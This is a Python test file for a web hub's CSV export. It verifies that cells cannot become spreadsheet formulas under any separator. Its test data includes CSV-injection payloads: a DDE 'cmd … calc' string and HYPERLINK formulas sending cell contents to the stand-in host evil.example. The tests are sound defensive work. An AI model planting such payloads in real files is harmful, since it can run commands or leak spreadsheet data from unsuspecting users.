"""Issue 11, item 15: no cell of a CSV export can become a spreadsheet formula, whatever
separator the spreadsheet splits on (French-locale spreadsheets split on ``;``), and every
export goes through the one writer (:func:`hub.text.csv_text`)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from hub.text import csv_safe, csv_text

ROOT = Path(__file__).resolve().parents[2]

FORMULAS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "\t=1+1",
    " =1+1",
    "\r=1+1",
]
WRAPPERS = [
    "{}",
    "Nom;{}",
    "Nom,{}",
    "Nom\t{}",
    "Nom|{}",
    "Nom\n{}",
    "Nom\r\n{}",
    "Nom; {}",
    "a;b;c;{}",
    'Dit "bonjour";{}',
]
SEPARATORS = [",", ";", "\t", "|"]


def naive_cells(text: str, separator: str) -> list[str]:
    """How a reader that ignores quotes sees the file: split on lines, then on the separator."""
    cells = []
    for line in re.split(r"\r\n|\r|\n", text):
        cells.extend(cell.strip().strip('"').strip() for cell in line.split(separator))
    return cells


def quoted_cells(text: str, separator: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
    ]


def formula_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("wrapper", WRAPPERS)
def test_no_cell_is_a_formula_whatever_the_separator(formula, wrapper):
    value = wrapper.format(formula)
    text = csv_text(["titre", value], [[value, 12, None], ["ok", value, "fin"]])
    for separator in SEPARATORS:
        assert formula_cells(naive_cells(text, separator)) == [], (separator, text)
        assert formula_cells(quoted_cells(text, separator)) == [], (separator, text)
    # Read with the separator it was written with, each cell comes back whole.
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][0] == csv_safe(value) and rows[1][1] == "12" and rows[1][2] == ""
    assert csv_safe(value).replace("'", "") == value.replace("'", "")


def test_ordinary_text_is_untouched():
    for value in ["Ormeval", "Quai des Tanneurs, côté nord", "2024-2025", "a - b", "é;è"]:
        assert csv_safe(value) == value


def test_every_cell_is_quoted():
    assert csv_text(["a", "b"], [[1, "x"]]) == '"a","b"\r\n"1","x"\r\n'


def test_every_export_uses_the_shared_writer():
    """A new export cannot forget the rules: no other module writes CSV itself. (The Pabulib
    writer produces the Pabulib exchange format for budget software, not a spreadsheet file.)"""
    allowed = {"hub/text.py", "plugins/participatory_budget/engine/pabulib.py"}
    offenders = []
    for folder in ("hub", "plugins"):
        for path in (ROOT / folder).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if "/tests/" in rel or rel in allowed:
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(rel)
    assert offenders == []


def test_exports_through_the_web_neutralise_french_separators(client, make_body, make_project):
    """A project title and a body name carrying ``;=formula`` come out harmless."""
    hostile = 'Parc;=HYPERLINK("http://evil.example","x")'
    make_body(name=hostile)
    make_project(title=hostile, published=True)
    for url in ("/bodies/export.csv", "/projects/export.csv"):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        text = response.get_data(as_text=True)
        assert "HYPERLINK" in text, (url, text)
        for separator in SEPARATORS:
            assert formula_cells(naive_cells(text, separator)) == [], (url, separator)
